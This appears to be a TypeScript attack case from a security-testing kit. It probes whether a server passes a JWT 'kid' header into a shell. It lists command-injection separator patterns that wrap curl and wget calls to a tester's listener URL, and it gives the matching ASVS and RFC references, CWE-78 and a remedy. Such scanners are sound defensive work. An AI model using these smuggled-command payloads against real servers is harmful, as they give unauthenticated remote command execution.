import { keyUrlAttack } from '../../kit/key-url-attack.ts'

/** What a shell makes of the kid when it stands in a command line. */
const lines: readonly ((call: string) => string)[] = [
  (call) => `x;${call}`,
  (call) => `x|${call}`,
  (call) => `|${call}`,
  (call) => `x&${call}&`,
  (call) => `x&&${call}`,
  (call) => `x||${call}`,
  (call) => `$(${call})`,
  (call) => `\`${call}\``,
  (call) => `x\n${call}\n`,
  (call) => `x';${call};'`,
  (call) => `x";${call};"`,
]

export default keyUrlAttack({
  id: 'token/key-kid-command',
  rows: ['token.key-kid.command'],
  title: 'A kid with a shell command in it that calls a listener of ours',
  requirement: 'ASVS V1.2.5: what comes from outside never stands in a command line; RFC 8725 section 3.10',
  impact: 'Anyone runs commands on the server, without any account.',
  remedy: 'Look keys up in a Map by kid. Start no shell; where a program must run, use execFile with arguments.',
  severity: 'critical',
  cwe: ['CWE-78'],
  references: ['ASVS V1.2.5', 'RFC 8725 section 3.10'],
  provenBy: 'kid-shell',
  plainer: (url) => ({ attack: 'token/key-url-other', name: 'an address as kid', header: { kid: `${url}/kid` } }),
  places: (url) => [
    ...lines.map((line) => line(`curl -s ${url}/kid`)).map((kid) => ({ name: `kid ${kid}`, header: { kid } })),
    ...lines
      .slice(0, 2)
      .map((line) => line(`wget -qO- ${url}/kid`))
      .map((kid) => ({ name: `kid ${kid}`, header: { kid } })),
  ],
})
